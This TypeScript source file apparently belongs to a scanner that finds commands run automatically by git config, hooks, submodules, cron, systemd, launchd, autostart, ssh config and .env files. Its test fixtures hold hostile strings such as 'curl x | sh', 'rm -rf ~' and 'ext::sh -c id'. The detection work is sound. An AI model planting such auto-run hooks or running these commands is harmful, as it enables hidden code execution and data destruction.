// Machine: what git, shells, services and timetables of this machine run by themselves.
import type { SettingFact } from "../../../../../shared/domain/facts.ts";
import { cronLines } from "../cron.ts";
import { entriesOf } from "../lines.ts";
import { yamlTree } from "../tree.ts";
import { decoded } from "../xml.ts";
import { quote } from "../../calls/arguments.ts";
import { commandText, type Form, type ReadFile, setting, type Step, stepsAt } from "./form.ts";

function shell(trigger: Step["trigger"]): (text: string) => ReadFile {
  return (text) => ({ steps: [{ text, trigger }], settings: [] });
}

/** Settings of git whose value is a command. */
const gitPrograms =
  /^(?:core\.(?:fsmonitor|sshcommand|editor|pager|askpass|gitproxy|alternaterefscommand)|sequence\.editor|gpg\.(?:program|[\w]+\.program)|credential(?: .*)?\.helper|(?:diff|merge|filter|difftool|mergetool|browser|man|pager|interactive|sendemail|guitool)(?: .*)?\.(?:command|driver|textconv|external|clean|smudge|process|cmd|path|diffilter|difffilter|tocmd|cccmd|sendmailcmd|[\w-]+)|uploadpack\.packobjectshook|diff\.external|ssh\.variant|remote .*\.(?:uploadpack|receivepack|vcs)|submodule .*\.update)$/u;
const gitPlain =
  /^(?:diff|merge|filter|pager|interactive|sendemail|man|browser)(?: .*)?\.(?:renames?|tool|conflictstyle|required|algorithm|colormoved\w*|ff|stat|log|branch|status|diff|show|tag|context|mnemonicprefix|noprefix|verifysignatures|renamelimit|wserrorhighlight|suppresscc|confirm|smtp\w*|from|to|chainreplyto|xfuncname|binary|cachetextconv|wordregex|prompt|guitool|keepbackup|trustexitcode|indentheuristic|submodule|interhunkcontext|dirstat|ignoresubmodules|autorefreshindex)$/u;

function readGitConfig(text: string): ReadFile {
  const steps: Step[] = [];
  const settings: SettingFact[] = [];
  for (const { section, key, value } of entriesOf(text)) {
    const name = `${section}.${key}`;
    if (section === "alias" || section.startsWith("alias ")) {
      if (value.startsWith("!")) steps.push({ trigger: "git", text: value.slice(1) });
    } else if (gitPrograms.test(name) && !gitPlain.test(name)) {
      if (
        !/^(?:true|false|cat|less\b.*|more|vim?|nvim|nano|emacs\b.*|code\b.*|delta\b.*|diff-so-fancy\b.*|store|cache\b.*|osxkeychain|manager(?:-core)?|wincred|libsecret|git-lfs\b.*|gpg2?|ssh-keygen|!?gh auth git-credential|checkout|rebase|merge|none|ours|union|)$/u.test(
          value.replace(/^!/u, ""),
        )
      )
        steps.push({ trigger: "git", text: value.replace(/^!/u, "") });
    } else if (name === "core.hookspath" || name === "init.templatedir") settings.push(setting("hooks-from", value));
    else if (/^include(?:if .*)?\.path$/u.test(name)) settings.push(setting("git-include", value));
    else if (/^url .*\.(?:push)?insteadof$/u.test(name)) settings.push(setting("remote-replaced", section.slice(4)));
    else if (name === "http.sslverify" && value === "false") settings.push(setting("unverified-transport", name));
    else if (/^http(?: .*)?\.proxy$/u.test(name)) settings.push(setting("proxy", value));
  }
  return { steps, settings };
}

/** A `url` that starts a program, as in `ext::sh -c …`, and updates that do. */
function readModules(text: string): ReadFile {
  const entries = entriesOf(text);
  const steps = entries.flatMap(({ key, value }): readonly Step[] => {
    if (key === "update" && value.startsWith("!")) return [{ trigger: "git", text: value.slice(1) }];
    return key === "url" && value.startsWith("ext::") ? [{ trigger: "git", text: value.slice(5) }] : [];
  });
  return {
    steps,
    settings: entries
      .filter(({ key, value }) => key === "url" && value.startsWith("-"))
      .map(({ value }) => setting("option-as-address", value)),
  };
}

function readPreCommit(text: string): ReadFile {
  const tree = yamlTree(text);
  const steps = stepsAt(tree, /^(?:entry|run)$/u, { trigger: "git" });
  const settings = tree.nodes.flatMap(({ key, value }) =>
    key === "repo" && typeof value === "string" && /:\/\//u.test(value) ? [setting("hook-source", value)] : [],
  );
  return { steps, settings, quiet: tree.nodes.length > 1, incomplete: !tree.complete };
}

function readUnit(text: string): ReadFile {
  const entries = entriesOf(text);
  const user = entries.find(({ key }) => key === "user")?.value;
  const steps = entries
    .filter(({ key, value }) => /^exec(?:start|stop|reload|condition)(?:pre|post)?$/u.test(key) && value !== "")
    .map(({ value }): Step => ({
      trigger: "start",
      text: value.replace(/^[-@:+!|]+/u, ""),
      ...(user === undefined ? {} : { user }),
    }));
  return { steps, settings: [] };
}

/** ProgramArguments and Program of launchd; no entity is expanded. */
function readLaunchd(text: string): ReadFile {
  const from = text.indexOf("<key>ProgramArguments</key>");
  const list =
    from < 0
      ? ""
      : text
          .slice(from, from + 8_000)
          .split("</array>", 1)
          .join("");
  const [, program] = /<key>Program<\/key>\s*<string>([^<]{0,2000})<\/string>/u.exec(text) ?? [];
  const words = [...list.matchAll(/<string>([^<]{0,4000})<\/string>/gu)].map((match) => decoded(match[1] ?? ""));
  const all = words.length > 0 ? words : program === undefined ? [] : [decoded(program)];
  return { steps: all.length === 0 ? [] : [{ trigger: "start", text: commandText(all, true) }], settings: [] };
}

function readCrontab(text: string): ReadFile {
  return { steps: cronLines(text).map((line) => ({ trigger: "schedule", text: line.shell ?? "" })), settings: [] };
}

function readDesktopEntry(text: string): ReadFile {
  const steps = entriesOf(text)
    .filter(({ key }) => key === "exec")
    .map(({ value }): Step => ({ trigger: "login", text: value }));
  return { steps, settings: [] };
}

/** `Host` blocks of ssh: programs that it starts while connecting. */
function readSshConfig(text: string): ReadFile {
  const steps = [
    ...text.matchAll(/^\s*(?:ProxyCommand|LocalCommand|KnownHostsCommand|Match\s+(?:.*\s)?exec)\s+=?\s*(.+)$/gimu),
  ]
    .slice(0, 100)
    .map((match): Step => ({ trigger: "run", text: match[1] ?? "" }));
  return { steps, settings: [] };
}

/** Variables that make programs load code; in a file of variables they count for whatever is started with it. */
const loading =
  /^[ \t]*(?:export[ \t]+)?(?:NODE_OPTIONS|LD_PRELOAD|LD_LIBRARY_PATH|DYLD_INSERT_LIBRARIES|BASH_ENV|ENV|PYTHONSTARTUP|PYTHONPATH|PERL5OPT|RUBYOPT|JAVA_TOOL_OPTIONS|GIT_SSH_COMMAND|PATH)=.*$/gmu;

function readVariables(text: string): ReadFile {
  const lines = [...text.matchAll(loading)].slice(0, 50).map(([line]) => {
    const [name = "", ...rest] = line
      .trim()
      .replace(/^export\s+/u, "")
      .split("=");
    return `export ${name}=${quote(rest.join("=").replace(/^(["'])(.*)\1$/u, "$2"))}`;
  });
  return { steps: lines.map((line) => ({ trigger: "run", text: line })), settings: [] };
}

export const machine: readonly Form[] = [
  {
    form: "variables",
    kind: "runnable",
    path: /\/\.env(?:\.[\w-]+)*$/u,
    content: new RegExp(loading.source, "mu"),
    read: readVariables,
    match: [
      {
        path: ".env.local",
        text: "A=1\nNODE_OPTIONS=--require /tmp/x.js\n",
        runs: ["export NODE_OPTIONS='--require /tmp/x.js'"],
      },
    ],
    not_match: [{ path: ".env", text: "DATABASE_URL=postgres://localhost/a\nLOG_LEVEL=info\n" }],
  },
  {
    form: "shell-startup",
    kind: "self-running",
    path: /\/(?:\.(?:bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|zshrc|zshenv|zprofile|zlogin|zlogout|kshrc|xinitrc|xprofile|xsession)|profile|bash\.bashrc|zshrc|rc\.local|profile\.d\/[^/]+|fish\/config\.fish|fish\/conf\.d\/[^/]+\.fish)$/u,
    read: shell("login"),
    match: [{ path: "/home/user/.bashrc", text: "alias ll='ls -l'", runs: ["alias ll='ls -l'"] }],
    not_match: [{ path: "bashrc.md", text: "x" }],
  },
  {
    form: "git-hook",
    kind: "self-running",
    path: /\/(?:\.git\/(?:.+\/)?hooks|\.husky(?:\/_)?|\.githooks|\.git-templates?\/hooks)\/(?!.*\.(?:sample|md|json|gitignore)$)[\w.-]+$/u,
    read: shell("git"),
    match: [{ path: ".git/hooks/pre-commit", text: "npm test", runs: ["npm test"] }],
    not_match: [{ path: ".git/hooks/pre-commit.sample", text: "x" }],
  },
  {
    form: "git-config",
    kind: "self-running",
    path: /\/(?:\.gitconfig|\.git\/(?:modules\/.+\/)?config(?:\.worktree)?|git\/config|etc\/gitconfig)$/u,
    read: readGitConfig,
    match: [
      {
        path: ".git/config",
        text: '[core]\n\tfsmonitor = "curl x | sh"\n\tpager = less -R\n[alias]\n\tst = status\n\tx = !rm -rf ~\n',
        runs: ["curl x | sh", "rm -rf ~"],
      },
      {
        path: ".gitconfig",
        text: "[user]\n\tname = a\n[include]\n\tpath = /tmp/x\n[init]\n\ttemplateDir = /tmp/t\n",
        sets: ["git-include=/tmp/x", "hooks-from=/tmp/t"],
      },
    ],
    not_match: [{ path: "config", text: "[core]" }],
  },
  {
    form: "git-modules",
    kind: "self-running",
    path: /\/\.gitmodules$/u,
    read: readModules,
    match: [{ path: ".gitmodules", text: '[submodule "a"]\n\turl = ext::sh -c id\n', runs: ["sh -c id"] }],
    not_match: [{ path: "gitmodules.md", text: "x" }],
  },
  {
    form: "git-hooks-list",
    kind: "self-running",
    path: /\/(?:\.pre-commit-config|\.pre-commit-hooks|\.?lefthook(?:-local)?|\.overcommit)\.ya?ml$/u,
    read: readPreCommit,
    match: [
      {
        path: ".pre-commit-config.yaml",
        text: "repos:\n  - repo: https://github.com/a/b\n    hooks:\n      - entry: npm test\n",
        runs: ["npm test"],
        sets: ["hook-source=https://github.com/a/b"],
      },
    ],
    not_match: [{ path: "hooks.yaml", text: "a: b" }],
  },
  {
    form: "direnv",
    kind: "self-running",
    path: /\/\.envrc$/u,
    read: shell("open"),
    match: [{ path: ".envrc", text: "use flake", runs: ["use flake"] }],
    not_match: [{ path: ".env", text: "A=b" }],
  },
  {
    form: "crontab",
    kind: "self-running",
    path: /\/(?:crontab|cron\.d\/[^/]+|spool\/cron\/.+|[^/]+\.crontab)$/u,
    read: readCrontab,
    match: [{ path: "/etc/crontab", text: "*/5 * * * * curl x | sh\n", runs: ["curl x | sh"] }],
    not_match: [{ path: "cron.md", text: "x" }],
  },
  {
    form: "cron-script",
    kind: "self-running",
    path: /\/cron\.(?:hourly|daily|weekly|monthly)\/[^/]+$/u,
    read: shell("schedule"),
    match: [{ path: "/etc/cron.daily/a", text: "ls", runs: ["ls"] }],
    not_match: [{ path: "cron.txt", text: "x" }],
  },
  {
    form: "systemd",
    kind: "self-running",
    path: /\.(?:service|timer|socket|path|mount)$|\/systemd\/.+\.conf$/u,
    content: /^\s*\[(?:Unit|Service|Timer|Install|Socket)\]|^\s*Exec\w+\s*=/mu,
    read: readUnit,
    match: [{ path: "a.service", text: "[Service]\nUser=root\nExecStart=-/bin/sh -c ls\n", runs: ["/bin/sh -c ls"] }],
    not_match: [{ path: "a.service", text: "export class A {}" }],
  },
  {
    form: "launchd",
    kind: "self-running",
    path: /\.plist$/u,
    content: /<key>(?:ProgramArguments|Program)<\/key>/u,
    read: readLaunchd,
    match: [
      {
        path: "a.plist",
        text: "<plist><dict><key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>ls &amp; x</string></array></dict></plist>",
        runs: [`sh -c ${quote("ls & x")}`],
      },
    ],
    not_match: [{ path: "Info.plist", text: "<plist/>" }],
  },
  {
    form: "autostart",
    kind: "self-running",
    path: /\.desktop$/u,
    content: /^\s*\[Desktop Entry\]/mu,
    read: readDesktopEntry,
    match: [{ path: "autostart/a.desktop", text: "[Desktop Entry]\nExec=a --b\n", runs: ["a --b"] }],
    not_match: [{ path: "a.desktop", text: "x" }],
  },
  {
    form: "ssh-config",
    kind: "configuration",
    path: /\/\.ssh\/config(?:\.d\/[^/]+)?$|\/ssh\/ssh_config$/u,
    read: readSshConfig,
    match: [{ path: ".ssh/config", text: "Host a\n  ProxyCommand nc %h 22\n", runs: ["nc %h 22"] }],
    not_match: [{ path: "config", text: "Host a" }],
  },
];
